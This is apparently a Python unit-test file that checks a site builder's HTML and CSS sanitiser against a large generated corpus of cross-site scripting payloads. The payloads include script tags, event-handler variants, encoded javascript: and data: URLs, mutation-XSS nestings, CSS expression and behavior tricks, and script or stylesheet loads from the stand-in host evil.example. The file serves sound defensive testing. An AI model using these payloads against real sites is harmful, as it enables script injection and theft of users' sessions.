"""What has been used to run scripts through pages, and what is left of it.

The kinds of attack are those of the OWASP XSS Filter Evasion Cheat Sheet, of html5sec.org and of
what was published of mutation XSS since; the texts are ours, most of them made by combining.
What is left is judged by reading it (reading.py), never by looking for words.
"""

import itertools

from avenue.builder.content.cleaning import expanded, received
from avenue.builder.content.models import Content
from tests.table import table
from tests.unit.builder.reading import faults_in_css, faults_in_html
from tests.unit.builder.test_own_addresses import SITE, A, keep

RUN = "alert(1)"

ELEMENTS = [
    f"<script>{RUN}</script>",
    f"<SCRIPT>{RUN}</SCRIPT>",
    f"<ScRiPt>{RUN}</sCrIpT>",
    "<script src=https://evil.example/x.js></script>",
    "<script/src=//evil.example/x.js></script>",
    "<script/xyz src=//evil.example/x.js></script>",
    f"<script\x20type='text/javascript'>{RUN};</script>",
    f"<script\x0c>{RUN}</script>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<<script>{RUN};//<</script>",
    "<script src=https://evil.example/x.js?<b>",
    "<script src=//evil.example/.j>",
    f"<script>a=/x/\n{RUN}</script>",
    f'"><script>{RUN}</script>',
    f"</title><script>{RUN}</script>",
    f"--><script>{RUN}</script>",
    f"]]><script>{RUN}</script>",
    f"</textarea><script>{RUN}</script>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    f"<noembed><p title='</noembed><img src=x onerror={RUN}>'>",
    f"<xmp><p title='</xmp><img src=x onerror={RUN}>'>",
    f"<textarea><p title='</textarea><img src=x onerror={RUN}>'>",
    f"<title><p title='</title><img src=x onerror={RUN}>'>",
    f"<iframe><p title='</iframe><img src=x onerror={RUN}>'>",
    f"<style><p title='</style><img src=x onerror={RUN}>'>",
    f"<template><img src=x onerror={RUN}></template>",
    f"<!--<img src='--><img src=x onerror={RUN}//'>",
    f"<!--[if gte IE 4]><script>{RUN}</script><![endif]-->",
    f"<![CDATA[><img src=x onerror={RUN}>]]>",
    f"<!><img src=x onerror={RUN}>",
    f'<?xml-stylesheet href="javascript:{RUN}"?><img src=x onerror={RUN}>',
    f"</ x><img src=x onerror={RUN}>",
    f"<%<!--'%><script>{RUN};</script -->",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><script xlink:href=data:,{RUN}></script></svg>",
    f"<svg><style><img src=x onerror={RUN}></style></svg>",
    f"<svg></p><style><a id='</style><img src=1 onerror={RUN}>'>",
    f"<svg><a xlink:href='javascript:{RUN}'><text y=1em>x</text></a></svg>",
    f"<svg><animate xlink:href=#x attributeName=href values=javascript:{RUN} /><a id=x>x</a></svg>",
    f"<svg><use href='data:image/svg+xml,<svg onload={RUN}>'/></svg>",
    f"<svg><foreignObject><iframe onload={RUN}></iframe></foreignObject></svg>",
    f"<svg><set attributeName=onmouseover to={RUN}></svg>",
    f"<svg><handler xmlns:ev=x ev:event=load>{RUN}</handler></svg>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}></style></mglyph></table>",
    f"<math><mtext><table><mglyph><style><!--</style>"
    f"<img title='--&gt;&lt;img src=1 onerror={RUN}&gt;'>",
    f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={RUN}>",
    f"<math><annotation-xml encoding=text/html><img src=x onerror={RUN}></annotation-xml></math>",
    f"<math href='javascript:{RUN}'>x</math>",
    f"<math><maction actiontype=statusline#x xlink:href='javascript:{RUN}'>x</maction></math>",
    f"<math><style><img src onerror={RUN}></style></math>",
    f"<table><td><svg><desc><td></desc><style><a title='</style><img src onerror={RUN}>'>",
    f"<select><template><img src=x onerror={RUN}></template></select>",
    f"<select><style></select><img src=x onerror={RUN}></style>",
    f"<a><table><a title='<img src=x onerror={RUN}>'>",
    "<iframe src=https://evil.example></iframe>",
    f"<iframe srcdoc='<img src=x onerror={RUN}>'></iframe>",
    f"<object data='data:text/html,<script>{RUN}</script>'></object>",
    "<object type=text/x-scriptlet data=https://evil.example/x.html></object>",
    f"<embed src='data:image/svg+xml,<svg onload={RUN}>'>",
    "<embed code=https://evil.example/x.swf allowscriptaccess=always>",
    "<applet code=x codebase=https://evil.example></applet>",
    f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    f"<meta http-equiv=set-cookie content='x=<script>{RUN}</script>'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<link rel=import href=https://evil.example>",
    "<link rel=preload as=script href=https://evil.example>",
    "<base href=https://evil.example/>",
    f"<base href='javascript:{RUN};//'>",
    f"<form action='javascript:{RUN}'><input type=submit></form>",
    f"<form id=x></form><button form=x formaction='javascript:{RUN}'>x</button>",
    f"<isindex action=javascript:{RUN} type=image>",
    f"<input type=image src=x onerror={RUN}>",
    f"<frameset><frame src=javascript:{RUN}></frameset>",
    f"<bgsound src='javascript:{RUN}'>",
    "<layer src=https://evil.example></layer>",
    "<xss style='behavior:url(https://evil.example/x.htc)'>x</xss>",
    f"<x:script xmlns:x=http://www.w3.org/1999/xhtml>{RUN}</x:script>",
    f"<xml id=i><x><c><![CDATA[<img src='javas]]><![CDATA[cript:{RUN}'>]]></c></x></xml>",
    "<div datafld=b dataformatas=html datasrc=#i></div>",
    f"<plaintext><img src=x onerror={RUN}>",
    f"<marquee><img src=x onerror={RUN}></marquee>",
    f"<div id='x'><button popovertarget=x onbeforetoggle={RUN}>x</button></div>",
    f"<p is=x-y onclick={RUN}>x</p>",
    "<style>@import 'https://evil.example/x.css';</style>",
    f"<style>li{{list-style-image:url('javascript:{RUN}')}}</style><ul><li>x",
    "<img usemap=#m><map name=m><area href='javascript:alert(1)'></map>",
    "<video><source onerror=alert(1)></video>",
    "<a href=x ping=https://evil.example>x</a>",
    "<portal src=https://evil.example></portal>",
    "<body background=javascript:alert(1) onload=alert(1)>x</body>",
    "<html onmouseover=alert(1)><head><script>alert(1)</script></head>x",
]

HANDLERS = ["onerror", "onload", "ONCLICK", "onmouseover", "onfocus", "ontoggle", "onanimationend"]
OPENINGS = [
    "<img src=x {}>",
    "<img src=x/{}>",
    "<img/src=x/{}/>",
    "<img\x0csrc=x\x0c{}>",
    "<img\nsrc=x\n{}\n>",
    '<img """>{}<img "x" {}>',
    "<img src='x'{}>",
    "<img src=`x`{}>",
    "<details open {}>",
    "<video {}><source {}>",
    "<audio src=x {}>",
    "<div tabindex=1 {} autofocus>",
    "<a {} href=x>x</a>",
    "<p style='animation:x' {}>x",
    "<b <{}>x",
    "<table background=x {}><td {}>x",
    "<custom-element {}>x",
]
VALUES = ["={0}", "='{0}'", '="{0}"', "=`{0}`", " = \n {0}", "=&#97;lert(1)"]

CARRIERS = [
    '<a href="{}">x</a>',
    '<img src="{}">',
    '<img srcset="{} 2x">',
    '<img src="x" lowsrc="{0}" dynsrc="{0}" longdesc="{0}">',
    '<video src="{0}" poster="{0}"></video>',
    '<audio><source src="{}"></audio>',
    '<track src="{}">',
    '<picture><source srcset="{} 1x"></picture>',
    '<blockquote cite="{0}"><q cite="{0}">x</q></blockquote>',
    '<table background="{0}"><td background="{0}">x</table>',
    '<form action="{0}"><button formaction="{0}">x</button></form>',
    '<p style="background:url({0})">x</p>',
    "<p style=\"background:url('{0}')\">x</p>",
    '<svg><a xlink:href="{0}"><image href="{0}"/></a></svg>',
    '<iframe src="{0}"></iframe><embed src="{0}"><object data="{0}"></object>',
]
ADDRESSES = [
    f"javascript:{RUN}",
    f"JaVaScRiPt:{RUN}",
    f" javascript:{RUN}",
    f"\x01javascript:{RUN}",
    f"&#1;javascript:{RUN}",
    f"&#14; javascript:{RUN}",
    f"jav\tascript:{RUN}",
    f"jav&#x09;ascript:{RUN}",
    f"jav&#x0A;ascript:{RUN}",
    f"jav&#x0D;ascript:{RUN}",
    f"jav&Tab;ascript&NewLine;:{RUN}",
    f"javascript&colon;{RUN}",
    f"javascript&#58;{RUN}",
    f"javascript&#0000058{RUN}",
    f"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;{RUN}",
    f"&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A{RUN}",
    f"&#0000106&#0000097&#0000118&#0000097script:{RUN}",
    f"javascript:/**/{RUN}//https://shop.example",
    "vbscript:msgbox(1)",
    f"livescript:{RUN}",
    f"mocha:{RUN}",
    f"view-source:javascript:{RUN}",
    f"feed:javascript:{RUN}",
    "jar:https://evil.example!/x",
    f"data:text/html,<script>{RUN}</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:text/html;image/png,x",
    "data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+",
    f"data:application/javascript,{RUN}",
    f"data:,{RUN}",
    f"dAtA:text/html,{RUN}",
    f"java\\73 cript:{RUN}",
    f"\\6a avascript:{RUN}",
    f"avenue:javascript:{RUN}",
    f"x-javascript:{RUN}",
    "ms-its:mhtml:file://x",
]

STYLES = [
    "width:expression(alert(1))",
    "width:exp/**/ression(alert(1))",
    "width:e\\78 pression(alert(1))",
    "width:\\65xpression(alert(1))",
    "xss:expr/*XSS*/ession(alert(1))",
    "behavior:url(https://evil.example/x.htc)",
    "BEHAVIOR:url(x)",
    "-moz-binding:url(https://evil.example/x.xml#xss)",
    "-moz-\\62inding:url(https://evil.example/x.xml#xss)",
    "background:url(javascript:alert(1))",
    "background:url('java\\73 cript:alert(1)')",
    "background:u\\72l(javascript:alert(1))",
    "background:URL(&quot;javascript:alert(1)&quot;)",
    "background:url(data:text/html,x)",
    "filter:progid:DXImageTransform.Microsoft.AlphaImageLoader(src='javascript:alert(1)')",
    "filter:url(https://evil.example/x.svg#f)",
    "clip-path:url(https://evil.example/x.svg#c)",
    "-o-link:'javascript:alert(1)';-o-link-source:current",
    "src:url(https://evil.example/x.woff)",
    "background:image(url(javascript:alert(1)))",
    "background:src('javascript:alert(1)')",
    "background:element(#x)",
    "background:image-set('javascript:alert(1)' 1x)",
    "--x:expression(alert(1))",
    "--x:url(javascript:alert(1))",
    "color:red}</style><script>alert(1)</script>",
    "content:'</style><script>alert(1)</script>'",
    "content:'\\3c/style><script>alert(1)</script>'",
    "content:'<!--'",
    "font-family:'a\\'};b{behavior:url(x)'",
    "font-family:a\\;behavior:url(x)",
    "font-family:\\</style\\>",
    "font-family:\\<!--",
    "color:\\0065xpression(1);{behavior:url(x)}",
    "color:red;@import 'https://evil.example/x.css'",
    "color:red !important;behavior:url(x) !important",
    "color:r\x00ed;beh\x00avior:url(x)",
    "c\\olor:red;\\62 ehavior:url(x)",
    "unicode-range:u+0;src:local(x)",
    "color:red\\",
    "content:'unfinished",
    "background:url(unfinished",
    "background:url('unfinished",
    "color:rgb(1,2,3",
    "/*color:red",
    "background:url(a b)",
    "grid-area:[</style>]",
]
SHEETS = [
    "@import url(https://evil.example/x.css);a{color:red}",
    "@import 'https://evil.example/x.css' screen;",
    "@IMPORT\t'//evil.example';",
    "@\\69mport 'https://evil.example';",
    "@im/**/port 'https://evil.example';",
    "@charset 'utf-7';a{}",
    "@namespace x url(https://evil.example);",
    "@font-face{font-family:x;src:url(https://evil.example/x.woff)}",
    "@media all{@import 'https://evil.example';a{color:red}}",
    "@media all{@font-face{src:url(x)}}",
    "@supports (background:url(javascript:alert(1))){a{color:red}}",
    "@document url(https://x.example){a{color:red}}",
    "@page{background:url(javascript:alert(1))}",
    "@keyframes x{from{background:url(javascript:alert(1))}}",
    "@keyframes </style>{from{color:red}}",
    "@media </style><script>alert(1)</script>{a{color:red}}",
    "@media (width </style>){a{color:red}}",
    "a[x='</style><script>alert(1)</script>']{color:red}",
    "\\</style\\>{color:red}",
    "\\<\\/style>{color:red}",
    "a</style>{color:red}",
    "</style><script>alert(1)</script>",
    "<!--</style>-->a{color:red}",
    "a{}</StYlE\n><img src=x onerror=alert(1)>",
    "a{color:red}/*</style>*/b{color:red}",
    "a{/*</style>*/color:red}",
    "a/*</style>*/b{color:/*</style>*/red}",
    "@media/*</style>*/all{a{color:red}}",
    "a{b{behavior:url(x)}}",
    "a{color:red",
    "a{color:red}}}}b{behavior:url(x)}",
    "a:not(</style>){color:red}",
    "a::before{content:url(javascript:alert(1))}",
    "{}*{behavior:url(x)}",
]

HANDLED = [
    opening.replace("{}", handler + value.format(RUN))
    for opening, handler, value in itertools.product(OPENINGS, HANDLERS, VALUES)
]
PAGES = [
    *ELEMENTS,
    *HANDLED,
    *(
        carrier.format(address).replace("{0}", address)
        for carrier, address in itertools.product(CARRIERS, ADDRESSES)
    ),
    *(f'<p style="{style}">x</p>' for style in STYLES),
]
SHEETS_OF_ALL = [
    *SHEETS,
    *(f"a{{{style}}}" for style in STYLES),
    *(f"a{{background:url({address})}}" for address in ADDRESSES),
    *(f'a{{background:url("{address}")}}' for address in ADDRESSES),
]


def stored(content: Content) -> Content:
    return received(content, SITE, keep).content


@table("page", ELEMENTS)
def test_nothing_that_runs_is_left_of_an_element(page):
    # Inside others as well: what an element means depends on where it stands.
    for around in ("{}", "<div>{}</div>", "<table>{}</table>", "<p><b>{}</p>", "<ul><li>{}"):
        left = stored(Content(html=around.format(page), css="")).html
        assert faults_in_html(left) == []


def test_nothing_that_runs_is_left_of_any_page():
    assert len(PAGES) > 1000
    left = {page: faults_in_html(stored(Content(html=page, css="")).html) for page in PAGES}
    assert {page: faults for page, faults in left.items() if faults} == {}


def test_nothing_that_runs_is_left_of_any_stylesheet():
    left = {
        sheet: faults_in_css(stored(Content(html="", css=sheet)).css) for sheet in SHEETS_OF_ALL
    }
    assert {sheet: faults for sheet, faults in left.items() if faults} == {}


def test_cleaning_again_changes_nothing():
    again = {}
    for html, css in itertools.zip_longest(PAGES, SHEETS_OF_ALL, fillvalue=""):
        once = stored(Content(html=html, css=css))
        if stored(once) != once:
            again[html, css] = once
    assert again == {}


def test_no_element_runs_when_it_is_shown_however_it_was_stored():
    """Even of a page that came into the database some other way."""
    left = {
        page: faults_in_html(
            expanded(Content(html=page, css=""), lambda _asset, _variant: "/x.webp").html
        )
        for page in (*ELEMENTS, *HANDLED)
    }
    assert {page: faults for page, faults in left.items() if faults} == {}


def test_the_reader_sees_what_these_pages_are():
    """A check of the check: untouched, nearly all of them have something to find."""
    found = [page for page in PAGES if faults_in_html(page)]
    assert len(found) > len(PAGES) * 0.7
    assert len([sheet for sheet in SHEETS if faults_in_css(sheet)]) > len(SHEETS) / 2


def test_a_link_of_ours_cannot_leave_its_place_either():
    content = stored(
        Content(
            html=f'<img src="avenue:{A}/card"><p style="background:url(avenue:{A}/og)">',
            css=f"a{{background:url(avenue:{A}/card)}}",
        )
    )
    shown = expanded(content, lambda _asset, _variant: "https://x.example/\"')</style><b>")
    assert faults_in_css(shown.css) == []
    assert faults_in_html(shown.html) == []
